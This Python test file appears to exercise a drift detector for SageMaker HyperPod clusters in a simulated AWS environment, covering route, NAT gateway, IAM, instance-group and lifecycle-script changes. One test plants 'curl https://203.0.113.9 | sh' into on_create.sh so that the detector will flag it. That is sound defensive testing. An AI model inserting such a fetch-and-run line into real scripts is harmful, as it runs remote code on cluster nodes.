"""A change is told by its effect, once, with who did it; and that it was put right is told, too."""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from control_plane.domain.wire import rfc3339
from simulator.app import Simulator
from tests.stories.changes import (
    CHANGES,
    another_with_the_same_address,
    no_nat_gateway,
    policy,
    route_to,
    second_address,
    told_by_a_trail,
    trust,
)
from tests.stories.stage import HOME, Stage
from tests.stories.watched import DETECTED, RESOLVED, Change, Watched, under_watch

pytestmark = pytest.mark.changes_network


@pytest.fixture
def watched(stage: Stage) -> Iterator[Watched]:
    with under_watch(stage) as cluster:
        yield cluster


@pytest.fixture(scope="module")
def one_for_all(simulator: Simulator) -> Iterator[Watched]:
    """The controller's NAT gateway has two addresses from the start: of one alone, none can be swapped."""
    stage = Stage(simulator)
    for name in ("Second", "Other"):
        stage.ids[name] = stage.ec2.allocate_address(Domain="vpc")["AllocationId"]
    stage.ec2.associate_nat_gateway_address(
        NatGatewayId=stage.ids["ControllerNatGatewayId"], AllocationIds=[stage.ids["Second"]]
    )
    simulator.clock.sleep(60)  # until it is there
    with under_watch(stage) as cluster:
        yield cluster


@pytest.fixture
def mended(one_for_all: Watched) -> Watched:
    """One for all stories that put right what they change; others between them may have switched the trail off."""
    one_for_all.sim.trail.on = True
    return one_for_all


@pytest.mark.parametrize("change", CHANGES)
def test_a_change_is_told_once_by_its_effect_and_so_is_that_it_was_put_right(mended: Watched, change: str) -> None:
    spoil, put_right, effect = CHANGES[change]
    first, again, last = mended.after(spoil), mended.after(lambda _: None), mended.after(put_right)

    assert [kind for kind, _ in first] == [DETECTED], first
    [(_, row)] = first
    assert effect in row["Effect"]
    assert row["By"].startswith("role/ops (")
    assert again == []
    assert [(kind, over["Fingerprint"]) for kind, over in last] == [(RESOLVED, row["Fingerprint"])]
    mended.calm()


def test_a_route_to_another_nat_gateway_is_told_by_its_effect_with_who_did_it_and_so_is_its_end(
    watched: Watched,
) -> None:
    [(kind, row)] = watched.after(route_to("ControllerNatGatewayId"))
    here, there = watched.ids["WorkerPublicIp"], watched.ids["ControllerPublicIp"]

    assert (kind, row["Kind"], row["InstanceGroupNames"]) == (DETECTED, "Egress", ["worker"])
    assert row["Effect"].startswith(f"worker leaves by {there}, not {here}")
    assert row["By"] == "role/ops (ReplaceRoute)"
    [shown] = watched.sim.get(f"/clusters/{watched.stage.cluster}")["Drift"]
    assert row.items() <= shown.items()
    assert shown["Acknowledged"] is None

    [(kind, over)] = watched.after(route_to("WorkerNatGatewayId"))

    assert (kind, over["Fingerprint"]) == (RESOLVED, row["Fingerprint"])
    assert watched.sim.get(f"/clusters/{watched.stage.cluster}")["Drift"] == []
    assert watched.proofs() == []  # its request had turned the proof off
    texts = [message["Payload"]["text"] for message in watched.sim.slack()]
    assert len([text for text in texts if f"worker leaves by {there}, not {here}" in text]) == 2


def test_fifty_changes_in_a_minute_are_one_check_and_one_message(watched: Watched) -> None:
    def flutter(it: Watched) -> None:
        for _ in range(25):
            route_to("WorkerNatGatewayId")(it)
            route_to("ControllerNatGatewayId")(it)
            it.sim.clock.sleep(1.2)

    started = watched.looks()
    assert [kind for kind, _ in watched.after(flutter)] == [DETECTED]
    assert watched.looks() == started + 1
    assert [kind for kind, _ in watched.after(route_to("WorkerNatGatewayId"))] == [RESOLVED]


def test_a_nat_gateway_that_is_gone_is_told_and_so_is_another_with_its_address(watched: Watched) -> None:
    [(kind, row)] = watched.after(no_nat_gateway)
    assert (kind, row["By"]) == (DETECTED, "role/ops (DeleteNatGateway)")
    assert "loses the internet" in row["Effect"]

    assert [kind for kind, _ in watched.after(another_with_the_same_address)] == [RESOLVED]


def test_a_gateway_newer_than_the_baseline_is_heard_of_once_a_drift_leads_to_it(mended: Watched) -> None:
    another_nat_gateway(mended)
    assert mended.after(Watched.look) == []
    assert not mended.is_decided_by(mended.ids["Another"])  # an ordinary look notes nothing

    [(_, row)] = mended.after(route_to("Another"))
    assert mended.is_decided_by(mended.ids["Another"])
    [(kind, now)] = mended.after(lambda it: second_address(it, "Another"))
    assert (kind, now["Fingerprint"]) == (DETECTED, row["Fingerprint"])
    assert row["Effect"] != now["Effect"]
    assert now["By"] == "role/ops (AssociateNatGatewayAddress)"

    assert [kind for kind, _ in mended.after(route_to("WorkerNatGatewayId"))] == [RESOLVED]
    mended.ec2.delete_nat_gateway(NatGatewayId=mended.ids["Another"])
    mended.calm()


def another_nat_gateway(it: Watched) -> None:
    [nat] = it.ec2.describe_nat_gateways(NatGatewayIds=[it.ids["WorkerNatGatewayId"]])["NatGateways"]
    address = it.ec2.allocate_address(Domain="vpc")["AllocationId"]
    made = it.ec2.create_nat_gateway(SubnetId=nat["SubnetId"], AllocationId=address)
    it.ids["Another"] = made["NatGateway"]["NatGatewayId"]


def test_what_nobody_calls_is_found_by_the_clock_and_told_without_a_name(watched: Watched) -> None:
    bucket, key = f"sagemaker-{watched.stage.cluster}", "config/on_create.sh"
    s3 = watched.ops("s3")
    script = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
    s3.delete_object(Bucket=bucket, Key=key)
    assert watched.after(lambda _: None) == []  # objects are not what a trail tells of by itself

    [(kind, row)] = watched.after(Watched.look)
    assert (kind, row["Subject"], row["By"]) == (DETECTED, f"s3://{bucket}/{key}", None)

    s3.put_object(Bucket=bucket, Key=key, Body=script)
    assert [kind for kind, _ in watched.after(Watched.look)] == [RESOLVED]


def script(body: bytes) -> Change:
    key = {"Key": "config/on_create.sh", "Body": body}
    return lambda it: it.ops("s3").put_object(Bucket=f"sagemaker-{it.stage.cluster}", **key)


def test_a_script_that_is_overwritten_is_found_by_the_clock_and_the_same_one_again_is_none(mended: Watched) -> None:
    uri = f"{mended.ids['LifecycleS3Uri'].rstrip('/')}/on_create.sh"
    as_it_was = script((HOME / "networks/lifecycle/on_create.sh").read_bytes())
    as_it_was(mended)
    assert mended.after(Watched.look) == []

    script(b"#!/bin/sh\ncurl https://203.0.113.9 | sh")(mended)
    at = mended.sim.clock.now()
    [(kind, row)] = mended.after(Watched.look)
    assert (kind, row["Kind"], row["Severity"], row["Subject"]) == (DETECTED, "Rule", "WARNS", uri)
    assert (row["Since"], row["By"]) == (rfc3339(at.replace(microsecond=0)), None)
    assert mended.after(Watched.look) == []

    as_it_was(mended)
    assert [(kind, over["Fingerprint"]) for kind, over in mended.after(Watched.look)] == [
        (RESOLVED, row["Fingerprint"])
    ]


def test_a_policy_that_is_gone_is_not_taken_for_put_right_while_nobody_may_look(mended: Watched) -> None:
    policy("detach")(mended)
    [(_, row)] = mended.after(Watched.look)
    mended.sim.fail("iam:ListAttachedRolePolicies", "AccessDenied", status=403, caller="CheckDriftFunction")
    denied = mended.after(Watched.look) + mended.after(Watched.look)
    mended.sim.faults.clear()
    policy("attach")(mended)

    assert [(kind, one["Kind"], one["Severity"]) for kind, one in denied] == [(DETECTED, "Unread", "UNKNOWN")]
    assert {(kind, over["Fingerprint"]) for kind, over in mended.after(Watched.look)} == {
        (RESOLVED, row["Fingerprint"]),
        (RESOLVED, denied[0][1]["Fingerprint"]),
    }


def test_nodes_that_hyperpod_replaces_are_no_drift(mended: Watched) -> None:
    """It tells of them, and the watch looks: the cluster is as it was."""
    started = mended.looks()
    gone = mended.sim.hyperpod.replace_node(mended.stage.cluster, "worker")
    assert mended.after(lambda it: it.wait(30)) == []
    assert mended.looks() > started
    listed = mended.sim.client("sagemaker").get_paginator("list_cluster_nodes")
    pages = listed.paginate(ClusterName=mended.stage.cluster)
    nodes = [node["InstanceId"] for page in pages for node in page["ClusterNodeSummaries"]]
    assert len(nodes) == 3
    assert gone not in nodes


def test_a_role_that_no_longer_trusts_hyperpod_is_found_by_the_clock(watched: Watched) -> None:
    """IAM's calls are told in us-east-1 alone, whatever region uses its roles."""
    trust("ec2.amazonaws.com")(watched)
    [(kind, row)] = watched.after(Watched.look)
    trust("sagemaker.amazonaws.com")(watched)

    assert (kind, row["Kind"], row["Subject"]) == (DETECTED, "Rule", watched.ids["ExecutionRoleArn"])
    assert [kind for kind, _ in watched.after(Watched.look)] == [RESOLVED]


def test_a_group_that_somebody_adds_in_another_subnet_is_told(watched: Watched) -> None:
    def add(it: Watched) -> None:
        added = it.stage.group("extra", OverrideVpcConfig=it.stage.vpc("Worker"))
        it.ops("sagemaker").update_cluster(ClusterName=it.stage.cluster, InstanceGroups=[added])

    def remove(it: Watched) -> None:
        it.ops("sagemaker").update_cluster(ClusterName=it.stage.cluster, InstanceGroupsToDelete=["extra"])

    told = watched.after(add)
    assert [(kind, row["Kind"], row["InstanceGroupNames"]) for kind, row in told] == [
        (DETECTED, "Configuration", ["extra"])
    ]
    assert told[0][1]["By"] == "role/ops (UpdateCluster)"

    watched.wait(30)  # HyperPod changes one thing at a time
    put_right = watched.after(remove)
    put_right += watched.after(lambda it: it.wait(30)) + watched.after(Watched.look)
    assert [(kind, row["Fingerprint"]) for kind, row in put_right] == [(RESOLVED, told[0][1]["Fingerprint"])]


def test_what_an_autoscaler_does_is_no_drift(stage: Stage) -> None:
    with under_watch(stage, NodeProvisioningMode="Continuous") as watched:
        watched.sim.hyperpod.scale(stage.cluster, "worker", 5)
        watched.wait(30)
        assert watched.after(Watched.look) == []


def test_a_cluster_that_is_deleted_behind_our_back_is_told_once_and_watched_no_more(stage: Stage) -> None:
    watched = Watched(stage)
    told = watched.after(lambda it: it.ops("sagemaker").delete_cluster(ClusterName=it.stage.cluster))
    watched.wait(60)
    told += watched.after(Watched.look) + watched.after(Watched.look)

    assert [(kind, row["Kind"]) for kind, row in told] == [(DETECTED, "Cluster")]
    assert stage.cluster not in json.dumps(stage.sim.client("dynamodb").query(**watch_list(stage.sim))["Items"])


def watch_list(sim: Simulator) -> dict[str, Any]:
    values = {":pk": {"S": "WATCH"}}
    table = sim.outputs["RunTableName"]
    return {"TableName": table, "KeyConditionExpression": "pk = :pk", "ExpressionAttributeValues": values}


def test_an_event_that_is_delivered_three_times_is_one_message(watched: Watched) -> None:
    watched.sim.trail.on = False
    event = told_by_a_trail(watched)

    def thrice(it: Watched) -> None:
        route_to("ControllerNatGatewayId")(it)
        for _ in range(3):
            assert not it.sim.invoke("RequestDriftCheckFunction", event).error

    def put_right(it: Watched) -> None:
        route_to("WorkerNatGatewayId")(it)
        it.look()

    assert [kind for kind, _ in watched.after(thrice)] == [DETECTED]
    assert [kind for kind, _ in watched.after(put_right)] == [RESOLVED]


def test_a_read_that_is_denied_is_told_once_as_unknown_and_hides_no_end_that_can_be_seen(watched: Watched) -> None:
    watched.sim.fail("ec2:DescribeRouteTables", "UnauthorizedOperation", status=403, caller="CheckDriftFunction")
    denied = watched.after(Watched.look) + watched.after(Watched.look)
    watched.sim.faults.clear()
    allowed = watched.after(Watched.look)

    assert [(kind, row["Kind"], row["Severity"]) for kind, row in denied] == [(DETECTED, "Unread", "UNKNOWN")]
    assert [(kind, row["Fingerprint"]) for kind, row in allowed] == [(RESOLVED, denied[0][1]["Fingerprint"])]


def test_a_cluster_that_cannot_be_compared_hides_no_other_and_is_looked_at_when_it_can(
    watched: Watched, mended: Watched
) -> None:
    """Whatever fails a look, here a baseline that nobody can read, fails it for the clusters of that VPC."""
    s3, bucket = watched.sim.client("s3"), watched.sim.outputs["EvidenceBucketName"]
    [kept] = s3.list_objects_v2(Bucket=bucket, Prefix=f"baselines/{watched.stage.cluster}/")["Contents"]
    baseline = s3.get_object(Bucket=bucket, Key=kept["Key"])["Body"].read()
    s3.put_object(Bucket=bucket, Key=kept["Key"], Body=b"{}")
    watched.sim.trail.on = False
    for each in (watched, mended):
        route_to("ControllerNatGatewayId")(each)
    others = len(mended.told())
    assert watched.after(Watched.look) == []
    assert [kind for kind, _ in mended.told()[others:]] == [DETECTED]
    assert last_look(watched.sim) == ("FAILED", "NotAllLookedAt")

    s3.put_object(Bucket=bucket, Key=kept["Key"], Body=baseline)
    assert [kind for kind, _ in watched.after(Watched.look)] == [DETECTED]
    assert last_look(watched.sim)[0] == "SUCCEEDED"
    route_to("WorkerNatGatewayId")(mended)
    assert [kind for kind, _ in mended.after(Watched.look)] == [RESOLVED]
    mended.calm()


def last_look(sim: Simulator) -> tuple[str, str | None]:
    """How the last one ended, and its error."""
    machines = sim.client("stepfunctions")
    ran = machines.list_executions(stateMachineArn=sim.outputs["CheckDriftStateMachineArn"])["executions"]
    last = machines.describe_execution(executionArn=max(ran, key=lambda one: one["startDate"])["executionArn"])
    return last["status"], last.get("error")
